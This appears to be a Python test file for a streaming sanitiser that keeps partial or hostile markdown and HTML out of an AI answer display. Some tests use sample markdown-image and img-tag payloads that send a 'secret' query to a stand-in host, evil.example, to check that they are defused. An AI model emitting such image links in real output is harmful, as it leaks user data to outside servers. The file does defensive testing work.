"""An answer streams line by line, and what is shown has been made harmless."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st
from tests.agents.rendering import loaded

from pierian.agents.answering import harmless
from pierian.agents.safe_stream import SafeStream
from pierian.events import CalculationCorrected, DraftFinished, DraftVoided, Event, Token


def stream() -> tuple[SafeStream, list[Event]]:
    events: list[Event] = []
    return SafeStream(events.append, lambda text: harmless(text, ())), events


def shown(events: list[Event]) -> str:
    """What a face shows after these events."""
    text = ""
    for event in events:
        match event:
            case Token(text=more, channel="answer"):
                text += more
            case DraftVoided():
                text = ""
            case CalculationCorrected(text=whole):
                text = whole
            case _:
                pass
    return text


def test_lines_are_shown_when_they_are_complete() -> None:
    safe, events = stream()
    for piece in ("One ", "line\nand ", "another\n", "rest"):
        safe.emit(Token(3, piece, "answer"))
    assert [event.text for event in events if isinstance(event, Token)] == ["One line\n", "and another\n"]
    safe.finish("One line\nand another\nrest\n\n- code's words")
    assert shown(events) == "One line\nand another\nrest\n\n- code's words"
    assert all(isinstance(event, Token) and event.draft == 3 for event in events)


def test_half_a_picture_is_never_shown() -> None:
    safe, events = stream()
    for piece in (
        "See ![x](http://",
        "evil.example/?q=secret",
        ") and more\n",
        "<img src=",
        "http://evil.example>\n",
    ):
        safe.emit(Token(1, piece, "answer"))
        assert "](" not in shown(events) and "<img" not in shown(events)
    assert shown(events) == "See x and more\n&lt;img src=`http://evil.example`>\n"


def test_a_block_of_code_streams_too() -> None:
    safe, events = stream()
    for piece in ("```py\n", "x = a[0](1)\n", "```\n"):
        safe.emit(Token(1, piece, "answer"))
    assert [event.text for event in events if isinstance(event, Token)] == [
        "```py\n",
        "x = a[0](1)\n",
        "```\n",
    ]


def test_other_events_pass_and_a_voided_draft_begins_again() -> None:
    safe, events = stream()
    thought, ended = Token(1, "hm", "thought"), DraftFinished(1, "", 3)
    safe.emit(thought)
    safe.emit(Token(1, "first\n", "answer"))
    safe.emit(DraftVoided(1, "again"))
    safe.emit(Token(1, "second\n", "answer"))
    safe.emit(ended)
    assert events[0] is thought and events[-1] is ended
    assert shown(events) == "second\n"


def test_a_correction_does_not_carry_raw_text_past_the_wall() -> None:
    safe, events = stream()
    hostile = "See ![x](http://evil.example)\n2 + 2 = "
    safe.emit(Token(1, f"{hostile}5 ", "answer"))
    safe.emit(CalculationCorrected(1, "2 + 2", "5", "4", f"{hostile}4"))
    assert "evil" not in shown(events)
    safe.emit(Token(1, " apples\n", "answer"))
    assert shown(events) == "See x\n2 + 2 = 4 apples\n"
    safe.finish("See x\n2 + 2 = 4 apples\nend")
    assert shown(events) == "See x\n2 + 2 = 4 apples\nend"


@settings(max_examples=80)
@given(
    pieces=st.lists(
        st.sampled_from(
            [
                "![x](http://e.example)",
                "`",
                "```\n",
                "\n",
                "\n\n",
                "text ",
                "<b>",
                "[a]: b\n",
                "- ",
                "http://e.example",
            ]
        ),
        max_size=12,
    )
)
def test_what_is_shown_at_any_time_is_a_harmless_text(pieces: list[str]) -> None:
    safe, events = stream()
    text = ""
    for piece in pieces:
        text += piece
        safe.emit(Token(1, piece, "answer"))
        now = shown(events)
        assert loaded(now) == []
        assert now == "" or now.endswith("\n")
    whole = harmless(text, ())
    safe.finish(whole)
    # Where a later line changes the meaning of an earlier one, the face shows the whole text at the end.
    assert shown(events) == whole or not whole.startswith(shown(events))
